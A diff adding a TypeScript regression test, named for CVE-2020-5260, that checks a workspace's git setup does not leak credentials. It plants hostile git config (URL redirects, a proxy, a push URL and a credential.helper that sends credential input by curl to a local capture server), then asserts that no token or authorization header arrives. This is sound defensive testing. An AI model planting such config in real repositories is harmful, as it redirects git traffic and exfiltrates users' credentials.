@@ -1,5 +1,8 @@
 import { randomBytes } from "node:crypto";
+import { once } from "node:events";
 import { link, mkdir, readdir, readFile, writeFile } from "node:fs/promises";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import type { Box, Grant, Log, Profile } from "@ws/workspace-core";
@@ -368,6 +371,40 @@ test("a repository that has a file of the helper's name itself keeps it", async 
   place.grant.revokedAt = Date.now();
   await place.attach();
   expect(await readFile(join(place.directory, HELPER), "utf8")).toBe("mine\n");
+});
+
+test("CVE-2020-5260: what a workspace plants in its git configuration leads git away, and no authorization of the worker's with it", async () => {
+  const seen: { authorization: string | undefined; url: string }[] = [];
+  const capture = createServer((request, response) => {
+    seen.push({ authorization: request.headers.authorization, url: request.url ?? "" });
+    // It asks for whatever there is.
+    response.writeHead(401, { "WWW-Authenticate": 'Basic realm="x"', "Proxy-Authenticate": 'Basic realm="x"' }).end();
+  });
+  capture.listen(0, "127.0.0.1");
+  await once(capture, "listening");
+  const away = `http://127.0.0.1:${(capture.address() as AddressInfo).port}/`;
+  await using place = await open(undefined, { helperScript });
+  await commit(place, { "b.txt": "b\n" });
+  const planted: (readonly string[])[] = [
+    [`url.${away}.insteadOf`, server.origin],
+    [`url.${away}.pushInsteadOf`, "https://"],
+    ["http.proxy", away],
+    ["remote.origin.pushurl", `${away}o/r`],
+    ["credential.helper", `!f() { curl -s "${away}?$1=$(tr '\\n' '&')"; }; f`],
+  ];
+  for (const [name = "", value = ""] of planted) {
+    const before = seen.length;
+    await git(place, "config", name, value);
+    await push(place, `HEAD:${BRANCH}`);
+    await runToEnd(place.box, ["git", "fetch", "origin"], inside(place));
+    const isLedAway = name.startsWith("url.") || name.startsWith("remote.");
+    expect(seen.length > before).toBe(isLedAway);
+    await git(place, "config", "--unset-all", name);
+  }
+  expect(seen.filter(({ authorization }) => authorization !== undefined)).toEqual([]);
+  expect(JSON.stringify(seen)).not.toContain(token);
+  expect((await push(place, BRANCH)).code).toBe(0);
+  capture.close();
 });
 
 test("the profile 'agent' reaches its own repository and what it is granted, and no other one of the same server", async () => {
